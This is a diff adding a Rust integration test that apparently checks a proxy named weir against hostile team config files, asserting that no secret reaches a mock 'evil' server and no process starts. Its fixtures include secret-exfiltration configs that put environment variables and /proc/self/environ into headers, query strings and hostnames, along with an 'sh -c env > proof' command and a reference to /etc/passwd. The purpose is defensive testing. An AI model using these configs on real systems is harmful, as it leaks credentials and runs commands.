@@ -1,0 +1,218 @@
+//! Hostile files of `include`: a team's file sends no secret of weir or of other teams to its own
+//! servers, and starts no process.
+
+use std::path::PathBuf;
+
+use serde_json::{Value, json};
+use weir_testkit::{MockServer, TokenServer};
+
+use crate::harness::{Weir, fresh_path};
+
+/// The folder of `include`. It is removed when the value is dropped.
+struct HostileTeamFolder(PathBuf);
+
+impl HostileTeamFolder {
+    fn new() -> Self {
+        let folder = fresh_path("teams");
+        std::fs::create_dir_all(&folder).unwrap();
+        Self(folder)
+    }
+
+    fn write(&self, team: &str, file: &Value) {
+        std::fs::write(self.0.join(format!("{team}.json")), file.to_string()).unwrap();
+    }
+}
+
+impl Drop for HostileTeamFolder {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// Returns one file for each way to name a secret that the config language has, all towards servers
+/// that the team may use.
+fn attacks(evil: &MockServer, authority: &TokenServer, proof: &str) -> Vec<(&'static str, Value)> {
+    let url = evil.url();
+    let upstream = |id: &str, upstream: Value| json!({ "upstreams": { id: upstream } });
+    // A variable of weir's environment, set by the harness; no server may ever see it.
+    let secret = "${WEIR_TEST_SECRET}";
+    let oauth = |mode: &str, key: &str| json!({ "mode": mode, key: authority.issuer(), "client_id": "weir", "client_secret": "thirteen-things" });
+    vec![
+        (
+            "header",
+            upstream("header", json!({ "url": url, "headers": { "x": secret } })),
+        ),
+        (
+            "query",
+            upstream("query", json!({ "url": format!("{url}?key={secret}") })),
+        ),
+        (
+            "secret-file",
+            upstream(
+                "secret-file",
+                json!({ "url": url, "headers": { "x": "${file:/proc/self/environ}" } }),
+            ),
+        ),
+        (
+            "host",
+            upstream(
+                "host",
+                json!({ "url": format!("http://{secret}.example/") }),
+            ),
+        ),
+        (
+            "servers",
+            json!({ "mcpServers": { "servers": { "url": url, "headers": { "x": secret } } } }),
+        ),
+        (
+            "child",
+            upstream(
+                "child",
+                json!({ "command": "sh", "args": ["-c", format!("env > {proof}")] }),
+            ),
+        ),
+        (
+            "clients-child",
+            json!({ "mcpServers": { "clients-child": { "command": "touch", "args": [proof] } } }),
+        ),
+        (
+            "shown",
+            json!({
+                "upstreams": { "shown": { "url": url } },
+                "endpoints": { "/team/shown": { "upstreams": ["shown"], "tools": { "describe": { "tool_0000": secret } } } },
+            }),
+        ),
+        (
+            "own-secret",
+            upstream(
+                "own-secret",
+                json!({ "url": url, "auth": {
+            "mode": "client_credentials", "issuer": authority.issuer(), "client_id": "weir", "client_secret": secret,
+        } }),
+            ),
+        ),
+        (
+            "exchange",
+            upstream(
+                "exchange",
+                json!({ "url": url, "auth": oauth("token_exchange", "token_endpoint") }),
+            ),
+        ),
+        (
+            "exchange-by",
+            upstream(
+                "exchange-by",
+                json!({ "url": url, "auth": oauth("token_exchange", "issuer") }),
+            ),
+        ),
+        (
+            "file",
+            json!({
+                "upstreams": { "file": { "url": url } },
+                "endpoints": { "/team/file": { "upstreams": ["file"], "policy": { "files": ["/proc/self/environ"] } } },
+            }),
+        ),
+        (
+            "roots",
+            upstream("roots", json!({ "url": url, "ca_file": "/etc/passwd" })),
+        ),
+        (
+            "borrowed",
+            json!({ "endpoints": { "/team/borrowed": { "upstream": "payments" } } }),
+        ),
+        (
+            "path",
+            json!({
+                "upstreams": { "path": { "url": url } },
+                "endpoints": { "/payments": { "upstream": "path" } },
+            }),
+        ),
+        (
+            "listener",
+            upstream(
+                "listener",
+                json!({ "url": "http://127.0.0.1:1/admin/config" }),
+            ),
+        ),
+    ]
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_teams_file_sends_no_secret_outwards_and_starts_nothing() {
+    let (payments, evil, honest) = (
+        MockServer::modern().tools(1).start().await,
+        MockServer::modern().tools(1).start().await,
+        MockServer::modern().tools(1).start().await,
+    );
+    let (authority, teams) = (TokenServer::start().await, HostileTeamFolder::new());
+    let proof = teams.0.join("proof").display().to_string();
+    let attacks = attacks(&evil, &authority, &proof);
+    let mut grants = json!({});
+    for (team, file) in &attacks {
+        teams.write(team, file);
+        grants[team] = json!({ "hosts": [evil.address().to_string()], "paths": ["/team/*"], "env": ["RUST_*"] });
+    }
+    // A file of a team that `teams` does not name.
+    teams.write(
+        "stranger",
+        &json!({ "upstreams": { "stranger": { "url": evil.url() } } }),
+    );
+    teams.write(
+        "honest",
+        &json!({
+            "upstreams": { "honest": { "url": honest.url(), "headers": { "x-level": "${RUST_LOG}" } } },
+            "endpoints": { "/team/honest": { "upstream": "honest" } },
+        }),
+    );
+    grants["honest"] =
+        json!({ "hosts": [honest.address().to_string()], "paths": ["/team/*"], "env": ["RUST_*"] });
+    let weir = Weir::with_config(json!({
+        "include": teams.0,
+        "teams": grants,
+        "upstreams": { "payments": { "url": payments.url(), "headers": { "authorization": "Bearer of-payments" } } },
+    }));
+    weir.wait_until_listed("/team/honest", &["tool_0000"]);
+    assert!(honest.requests().iter().any(|request| {
+        request
+            .header("x-level")
+            .is_some_and(|level| level.contains("weir"))
+    }));
+    let shown: Value = serde_json::from_str(
+        weir.get_admin_page("/admin/upstreams")
+            .split("\r\n\r\n")
+            .nth(1)
+            .unwrap(),
+    )
+    .unwrap();
+    let ids: Vec<&str> = shown["upstreams"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|one| one["id"].as_str())
+        .collect();
+    assert_eq!(ids, ["payments", "honest"], "{shown}");
+    // The main file's own objects are unchanged.
+    assert_eq!(weir.list_tools("/mcp"), ["payments__tool_0000"]);
+    assert_eq!(weir.list_tools("/mcp/payments"), ["tool_0000"]);
+    for path in ["/payments", "/team/shown", "/team/borrowed", "/team/file"] {
+        assert!(
+            !Weir::run_cli(&["tools", &weir.url(path)]).status.success(),
+            "{path}"
+        );
+    }
+    assert_eq!(
+        (evil.connections(), authority.requests().len()),
+        (0, 0),
+        "{:?}",
+        evil.requests()
+    );
+    assert!(
+        !std::path::Path::new(&proof).exists(),
+        "a program of a team ran"
+    );
+    let said = weir.process.output();
+    for (team, _) in &attacks {
+        assert!(said.contains(&format!("{team}.json")), "{team}: {said}");
+    }
+    assert!(!said.contains("CANARY-"), "{said}");
+}
